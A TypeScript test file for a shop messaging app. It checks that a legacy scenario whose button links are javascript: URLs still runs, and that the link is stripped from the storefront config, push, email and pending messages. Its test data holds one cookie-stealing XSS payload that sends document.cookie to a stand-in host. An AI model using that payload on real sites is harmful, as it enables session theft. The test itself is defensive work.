// A version stored before button links were checked, with a javascript: link on every message:
// it still parses and its runs go on (the popup shown, then a push, an email and a message for the
// next page), and the link is left out everywhere it would reach the shopper: the storefront's
// published rules, the push payload (the shop's home page instead), the email, the pending on-site message.
import type { ParsedMail } from "mailparser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseScenarioDefinition } from "../../app/scenarios/model";
import { publishStorefrontConfig } from "../../app/storefront/publish.server";
import type { TestAppWithWorker } from "../support/app";
import { startPushService, type PushService } from "../support/push-service";
import { adminGraphql } from "../support/shop";
import { startAppWithSmtp } from "../support/smtp";

const HOSTILE = "javascript:fetch('//evil.example/?c='+document.cookie)";
const message = (key: string, body: string) => ({
  key,
  title: { en: body },
  body: { en: body },
  cta: { label: { en: "Open it" }, url: HOSTILE },
});
const STORED = {
  schemaVersion: 1,
  trigger: { type: "exit_intent" },
  start: "popup",
  steps: [
    {
      id: "popup",
      type: "send",
      channels: ["popup"],
      message: message("old.popup", "Before you go"),
      next: "push",
    },
    {
      id: "push",
      type: "send",
      channels: ["web_push"],
      message: message("old.push", "A push for you"),
      next: "mail",
    },
    {
      id: "mail",
      type: "send",
      channels: ["email"],
      message: message("old.mail", "An email for you"),
      next: "again",
    },
    {
      id: "again",
      type: "send",
      channels: ["popup"],
      message: message("old.again", "Welcome back"),
    },
  ],
};

let t: TestAppWithWorker;
let push: PushService;
let shopId: string;
let stop: (() => Promise<void>) | undefined;
const mailbox: ParsedMail[] = [];
const db = () => t.database.db;
const post = (path: string, body: object) =>
  fetch(t.double.appProxyUrl(path, { shop: t.shop }), {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });

beforeAll(async () => {
  push = await startPushService();
  ({ t, shopId, stop } = await startAppWithSmtp((mail) => mailbox.push(mail), {
    agent: push.agent,
  }));
  const shop = await db().shop.findUniqueOrThrow({ where: { id: shopId } });
  await db().shop.update({
    where: { id: shopId },
    data: { settings: { ...(shop.settings as object), dailyMessageCap: 20 } },
  });
  expect(
    (await fetch(t.double.appProxyUrl("/push/key", { shop: t.shop }))).status,
  ).toBe(200);
});
afterAll(async () => {
  await stop?.();
  await push?.close();
});

describe("a version stored with a javascript: button link", () => {
  it("still parses and runs, with the link left out on the page, in the push, in the email and in the pending on-site message", async () => {
    expect(parseScenarioDefinition(STORED).ok).toBe(true);
    await db().scenario.updateMany({
      where: { shopId },
      data: { status: "PAUSED" },
    });
    const scenario = await db().scenario.create({
      data: {
        shopId,
        name: "Stored long ago",
        group: "LEAD_GENERATION",
        status: "ACTIVE",
        versions: { create: { version: 1, definition: STORED } },
      },
    });

    // The page: the published rule carries the copy, not the link.
    const config = await publishStorefrontConfig(db(), adminGraphql(t), shopId);
    const rule = config.rules.find((r) => r.id === `${scenario.id}:popup`)!;
    expect(rule.texts.en).toEqual({
      title: "Before you go",
      body: "Before you go",
    });
    expect(JSON.stringify(config)).not.toContain("javascript");

    // A shopper who allowed push and left an email sees the popup; the run goes on from it.
    const subscription = push.subscribe();
    expect(
      (
        await post("/push/subscribe", {
          visitorId: "browser-old",
          subscription,
        })
      ).status,
    ).toBe(204);
    expect(
      (
        await post("/capture", {
          visitorId: "browser-old",
          email: "old@example.com",
        })
      ).status,
    ).toBe(200);
    await t.worker.drain();
    const before = push.received.length;
    expect(
      (
        await post("/events", {
          visitorId: "browser-old",
          events: [
            {
              id: "s1",
              type: "shown",
              rule: rule.id,
              at: new Date().toISOString(),
            },
          ],
        })
      ).status,
    ).toBe(204);
    await t.worker.drain();
    expect(await t.worker.failures()).toEqual([]);

    const run = await db().scenarioRun.findFirstOrThrow({
      where: { scenarioId: scenario.id },
    });
    const deliveries = await db().delivery.findMany({
      where: { runId: run.id },
    });
    expect(deliveries.map((d) => [d.messageKey, d.status]).sort()).toEqual([
      ["old.again", "PENDING"],
      ["old.mail", "SENT"],
      ["old.popup", "SENT"],
      ["old.push", "SENT"],
    ]);

    // The push opens the shop's home page.
    expect(
      push.received.slice(before).map((r) => JSON.parse(r.payload)),
    ).toEqual([{ title: "A push for you", body: "A push for you", url: "/" }]);

    // The email has no button and no link to the script, even through the click redirect.
    const mail = mailbox.find(
      (m) =>
        JSON.stringify(m.to).includes("old@example.com") &&
        m.subject === "An email for you",
    )!;
    expect(String(mail.html)).not.toContain("Open it");
    expect(String(mail.html)).not.toMatch(/javascript/i);
    expect(mail.text).not.toContain("Open it");
    expect(mail.text).not.toContain("javascript");

    // The message for the next page comes without its link.
    const next = (await (
      await fetch(
        t.double.appProxyUrl("/pending", {
          shop: t.shop,
          query: { visitorId: "browser-old" },
        }),
      )
    ).json()) as { messages: { text: object }[] };
    expect(next.messages.map((m) => m.text)).toEqual([
      { title: "Welcome back", body: "Welcome back" },
    ]);
  });
});
